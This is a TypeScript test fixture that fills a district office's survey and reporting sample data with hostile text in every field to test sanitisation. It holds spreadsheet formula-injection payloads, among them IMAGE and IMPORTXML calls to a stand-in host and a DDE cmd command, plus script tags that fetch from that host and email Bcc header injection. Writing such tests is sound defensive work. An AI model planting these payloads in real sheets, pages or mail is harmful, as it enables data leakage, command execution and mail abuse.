/** The sample year with hostile text in every place that takes text; its figures must stay those of the sample. */
import { normalise, type Cell } from '../../src/core/text/text';
import type { YearData } from '../../src/host/replay/data-folder';

/** Host of every foreign link and address that is planted. */
export const FOREIGN = 'foreign.example';

const ZERO_WIDTH = '\u200b\u2060\ufeff';

/** Formulas in every guise, each with a mark by which it is known again. */
export const FORMULAS: readonly ((mark: string) => string)[] = [
  (mark) => `=IMAGE("https://${FOREIGN}/?${mark}")`,
  (mark) => `=HYPERLINK("https://${FOREIGN}/?"&B2;"${mark}")`,
  (mark) => `+IMPORTXML("https://${FOREIGN}/${mark}";"//a")`,
  (mark) => `-1+1+cmd|' /C calc'!A0 ${mark}`,
  (mark) => `@SUM(1;2) ${mark}`,
  (mark) => `＝1+1 ${mark}`,
  (mark) => `＋1+1 ${mark}`,
  (mark) => `－1+1 ${mark}`,
  (mark) => `＠SUM(1) ${mark}`,
  (mark) => `  =1+1&"${mark}"`,
  (mark) => `\t=1+1&"${mark}"`,
  (mark) => `\n=1+1&"${mark}"`,
  (mark) => `\r=1+1&"${mark}"`,
  (mark) => `\u00a0=1+1&"${mark}"`,
  (mark) => `${ZERO_WIDTH}=1+1&"${mark}"`,
  (mark) => `'=1+1&"${mark}"`,
  (mark) => `"=1+1" ${mark}`,
  (mark) => `"${mark}";=1+1`,
  (mark) => `\u202e=1+1&"${mark}"`,
  (mark) => `\u0000=1+1&"${mark}"`,
];

/** What else a text may carry. */
export const TRICKS: readonly ((mark: string) => string)[] = [
  (mark) => `<script>fetch("https://${FOREIGN}/${mark}")</script>`,
  (mark) => `<img src=x onerror="alert('${mark}')"><!--`,
  (mark) => `</td></tr></table>${mark}&lt;b&gt;&#0;`,
  (mark) => `${mark}\r\nBcc: x@${FOREIGN}\r\n\r\n<html>`,
  (mark) => `a@${FOREIGN}, b@${FOREIGN}; c@${FOREIGN} ${mark}`,
  (mark) => `${mark} \u202egnud iaH\u2069\u200f`,
  (mark) => `${mark} \ud83d lẻ \udc4d`,
  (mark) => `${mark} \u0000\u0007\u001b[31m`,
  (mark) => `${mark}${'dài '.repeat(mark.endsWith('0x') ? 12_501 : 20)}`,
  (mark) => `${mark}a${'\u0315'.repeat(300)}${'\u0300'.repeat(300)}`,
  (mark) => `${mark} 0905 123 456, +84 905.123.456, 052085001234`,
  (mark) => `${mark} nguyen.van.a@gmail.example`,
  (mark) => `${mark} %s {{mark}} \${mark} $& $1`,
];

/** Texts that a sheet would like to take for something else; too short to carry a mark. */
export const DISGUISES = [
  '1/2',
  '0123',
  '1e9',
  '12:30',
  '10%',
  'TRUE',
  '1.234',
  '__proto__',
  'constructor',
  'toString',
];

const GUISES = [...FORMULAS, ...TRICKS];
const guise = (index: number, mark: string): string => (GUISES[index % GUISES.length] ?? String)(mark);

/** What citizens wrote and what codes their dossiers have: known by this wherever it turns up. */
export const CITIZEN_MARK = 'cdan-';
/** What staff and files brought: it may stand in tabs and in the log, as text. */
export const STAFF_MARK = 'nbo-';

export interface HostileYear {
  readonly data: YearData;
  /** Comments by the row of `khao-sat.csv`, as citizens wrote them. */
  readonly comments: ReadonlyMap<number, string>;
}

export function hostileYear(year: YearData): HostileYear {
  const answers = hostileAnswers(year);
  return {
    data: {
      ...year,
      answers: [...answers, ...uncountedSlips(year)],
      units: hostileUnits(year.units),
      objectives: hostileObjectives(year.objectives),
      assessments: year.assessments.map(({ date, cells }, index) => ({
        date,
        cells: { ...cells, 'Ghi chú': guise(index, `${STAFF_MARK}dg${index}x`) },
      })),
      settings: hostileSettings(year.settings),
      oneStop: year.oneStop.map((file, index) =>
        hostileExport(
          file,
          index,
          year.units.rows.map(([name = '']) => name),
        ),
      ),
    },
    comments: new Map(answers.map(({ row, answers: own }) => [row, own['Ý kiến góp ý'] ?? ''])),
  };
}

/** The same answers to what is counted; every code keeps those that it is the same as. */
function hostileAnswers({ answers }: YearData): YearData['answers'] {
  const rowsOfCode = new Map<string, number>();
  for (const { answers: own } of answers) {
    const key = normalise(own['Mã hồ sơ'] ?? '');
    rowsOfCode.set(key, (rowsOfCode.get(key) ?? 0) + 1);
  }
  return answers.map((answer, index) => {
    const code = answer.answers['Mã hồ sơ'] ?? '';
    const isOnce = rowsOfCode.get(normalise(code)) === 1;
    // A code that comes twice, once by hand and once by the Form, must come through both ways the same.
    const hostileCode = isOnce ? guise(index, `${CITIZEN_MARK}ms${index}x`) : `=${code} ${CITIZEN_MARK}ms`;
    const disguise = DISGUISES[index % (7 * DISGUISES.length)];
    return {
      ...answer,
      answers: {
        ...answer.answers,
        'Mã hồ sơ': normalise(code) === '' ? code : hostileCode.slice(0, 2000),
        'Lĩnh vực': guise(index + 7, `${CITIZEN_MARK}lv${index}x`).slice(0, 2000),
        'Ý kiến góp ý': disguise ?? guise(index, `${CITIZEN_MARK}gy${index}x`),
      },
    };
  });
}

/** Slips whose overall answer is in no scale: they are left out, whatever else they say. */
function uncountedSlips({ answers }: YearData): YearData['answers'] {
  return GUISES.flatMap((make, index) => {
    const answer = answers[index * 50];
    if (!answer) return [];
    const mark = (field: string): string => `${CITIZEN_MARK}${field}x${index}x`;
    return {
      row: 100_000 + index,
      at: answer.at,
      answers: {
        ...answer.answers,
        'Mã hồ sơ': make(mark('ms')).slice(0, 2000),
        'Mức độ hài lòng chung': make(mark('hl')).slice(0, 2000),
        'Thời gian giải quyết': make(mark('tg')).slice(0, 2000),
        'Ý kiến góp ý': make(mark('gy')).slice(0, 50_000),
      },
    };
  });
}

/** An other name for each unit, under which the files have it; contacts and telephones as nobody would write them. */
function hostileUnits({ headings, rows }: YearData['units']): YearData['units'] {
  const more = ['Cán bộ đầu mối', 'Điện thoại/Zalo'];
  const email = headings.indexOf('Email');
  const others = headings.indexOf('Tên khác');
  return {
    headings: [...headings, ...more],
    rows: rows.map((row, index) => [
      ...row.map((cell, column) => {
        if (column === others) return [aliasOf(index), cell].filter((name) => name !== '').join('; ');
        return column === email ? `${cell}; x@${FOREIGN}\r\nBcc: y@${FOREIGN}; <z@${FOREIGN}>, w@${FOREIGN}` : cell;
      }),
      guise(index, `${STAFF_MARK}cb${index}x`),
      guise(index + 5, `${STAFF_MARK}dt${index}x`),
    ]),
  };
}

const aliasOf = (index: number): string =>
  [`=1+1+${STAFF_MARK}dv${index}x`, `@dv<script>${STAFF_MARK}dv${index}x`, `＋cmd|' /C'!A${index}`][index % 3] ?? '';

function hostileObjectives({ headings, rows }: YearData['objectives']): YearData['objectives'] {
  const plant: Readonly<Record<string, (index: number) => string>> = {
    'Mục tiêu': () => ' <script>alert(1)</script><img src=x onerror=alert(1)>',
    'Biện pháp thực hiện': (index) => ` ${guise(index, `${STAFF_MARK}bp${index}x`).slice(0, 2000)}`,
    'Ghi chú': (index) => guise(index + 3, `${STAFF_MARK}gc${index}x`).slice(0, 2000),
  };
  return {
    headings,
    rows: rows.map((row, index) =>
      row.map((cell, column) => {
        const planted = plant[headings[column] ?? '']?.(index) ?? '';
        return cell === '' && headings[column] !== 'Ghi chú' ? cell : `${cell}${planted}`;
      }),
    ),
  };
}

function hostileSettings(settings: YearData['settings']): YearData['settings'] {
  const replaced: Readonly<Record<string, string>> = {
    'Tên gọi tắt': `UBND huyện Tuy Phước"\r\nBcc: x@${FOREIGN}\r\n<script>`,
    'Địa danh': `=IMAGE("https://${FOREIGN}/${STAFF_MARK}")`,
    'Nơi nhận': `@SUM(1); \u202e${STAFF_MARK}; <img src=x onerror=alert(1)>`,
  };
  return [
    ...settings.map(({ name, value }) => ({ name, value: replaced[name] ?? value })),
    { name: 'Địa chỉ nhận trả lời', value: `a@${FOREIGN}\r\nBcc: b@${FOREIGN}` },
    ...['__proto__', 'constructor', '=1+1', '<b>tham số</b>'].map((name) => ({ name, value: `=1+1&"${STAFF_MARK}"` })),
  ];
}

/** The units under their hostile names, one more line of noughts, a hostile name of the file. */
function hostileExport(
  file: YearData['oneStop'][number],
  index: number,
  units: readonly string[],
): YearData['oneStop'][number] {
  let unit = -1;
  const cells = file.cells.map((row) => {
    const at = row.findIndex((cell) => typeof cell === 'string' && units.includes(cell));
    if (at < 0) return row;
    unit = units.indexOf(String(row[at]));
    return row.map((cell, column) => (column === at ? aliasOf(unit) : cell));
  });
  const last = cells.findIndex((row) => row.some((cell) => /^tổng/i.test(String(cell))));
  const noughts = (cells[last - 1] ?? []).map((cell): Cell => {
    if (typeof cell === 'number') return 0;
    return cell === aliasOf(unit) ? guise(index, `${STAFF_MARK}mc${index}x`).slice(0, 2000) : cell;
  });
  return {
    ...file,
    fileName: guise(index + 11, `${STAFF_MARK}tep${index}x`).slice(0, 200),
    cells: [...cells.slice(0, last), noughts, ...cells.slice(last)],
  };
}
